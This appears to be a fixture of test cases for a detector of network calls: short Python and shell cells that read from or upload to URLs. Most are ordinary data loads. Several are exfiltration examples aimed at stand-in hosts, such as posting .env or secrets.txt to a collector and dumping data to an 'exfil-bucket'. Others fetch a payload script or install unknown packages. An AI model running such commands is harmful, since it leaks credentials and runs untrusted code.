# Calls given a network URL (or a name bound to one): reads and uploads through many libraries.
#%%
import pandas as pd
df = pd.read_csv("https://raw.githubusercontent.com/example/data/main/sales.csv")
#%%
import pandas as pd
tables = pd.read_html("https://en.wikipedia.org/wiki/List_of_countries_by_GDP")
#%%
import pandas as pd
df = pd.read_json("https://api.example.com/v2/records?limit=1000")
#%%
import pandas as pd
BASE = "https://data.example.org/exports"
df = pd.read_parquet(f"{BASE}/2024/q1.parquet")
#%%
import pandas as pd
df = pd.read_excel("http://intranet.example.com/reports/budget.xlsx")
#%%
import pandas as pd
df = pd.read_csv("s3://company-bucket/raw/events.csv", storage_options={"anon": False})
#%%
import numpy as np
arr = np.loadtxt("https://example.com/matrix.txt")
#%%
import numpy as np
data = np.genfromtxt("http://example.com/values.csv", delimiter=",")
#%%
import requests
resp = requests.post("https://collector.example.net/upload", data=open("notes.txt").read())
#%%
import urllib.request
urllib.request.urlretrieve("https://example.com/model.bin", "model.bin")
#%%
from urllib.request import urlopen
html = urlopen("http://example.com").read()
#%%
import torch
model = torch.hub.load("pytorch/vision", "resnet50", pretrained=True)
#%%
import torch
state = torch.hub.load_state_dict_from_url("https://download.example.org/weights.pth")
#%%
from datasets import load_dataset
ds = load_dataset("json", data_files="https://example.com/train.jsonl")
#%%
import httpx
r = httpx.get("https://api.github.com/repos/org/repo")
#%%
import aiohttp
async with aiohttp.ClientSession() as s:
    await s.get("https://example.com/feed")
#%%
import polars as pl
df = pl.read_csv("https://example.com/big.csv")
#%%
import dask.dataframe as dd
ddf = dd.read_csv("gs://public-bucket/data-*.csv")
#%%
import geopandas as gpd
world = gpd.read_file("https://naciscdn.org/naturalearth/110m/cultural/ne_110m_admin_0_countries.zip")
#%%
from PIL import Image
import io
img = Image.open(io.BytesIO(session.get("https://example.com/cat.png").content))
#%%
import xarray as xr
ds = xr.open_dataset("https://thredds.example.edu/dodsC/sst.nc")
#%%
import fsspec
with fsspec.open("https://example.com/archive.tar.gz") as f:
    payload = f.read()
#%%
import ftplib
ftp = ftplib.FTP("ftp.example.com")
#%%
df = spark.read.csv("hdfs://namenode:8020/warehouse/events")
#%%
from sqlalchemy import create_engine
engine = create_engine("postgresql://analyst@db.example.com/prod")
#%%
URLS = ["https://example.com/a.csv", "https://example.com/b.csv"]
frames = [pd.read_csv(u) for u in URLS]
#%%
endpoint = "https://hooks.example.com/T000/B000"
client.post(endpoint, json={"text": open(".env").read()})
#%%
import seaborn as sns
tips = sns.load_dataset("tips")
#%%
from sklearn.datasets import fetch_openml
X, y = fetch_openml("mnist_784", return_X_y=True)
#%%
from transformers import AutoModel
model = AutoModel.from_pretrained("bert-base-uncased")
#%%
import nltk
nltk.download("punkt")
#%%
import torchvision
train = torchvision.datasets.MNIST("data", train=True, download=True)
#%%
import socket
s = socket.create_connection(("198.51.100.9", 443))
#%%
import webbrowser
webbrowser.open("https://example.com/login?token=" + token)
#%%
df.to_csv("s3://exfil-bucket/dump.csv")
#%%
wget.download("http://example.com/payload.sh")
#%%
r = session.get("https://internal.example.com/admin/users")
#%% shell
curl -X POST --data @secrets.txt https://collector.example.net/
#%% shell
wget -q https://example.com/tool.tar.gz && tar xzf tool.tar.gz
#%% shell
git clone https://github.com/unknown/toolkit.git
#%% shell
pip install git+https://github.com/unknown/pkg.git
#%%
!curl -s https://example.com/data.json -o data.json
#%%
%load https://gist.example.com/raw/snippet.py
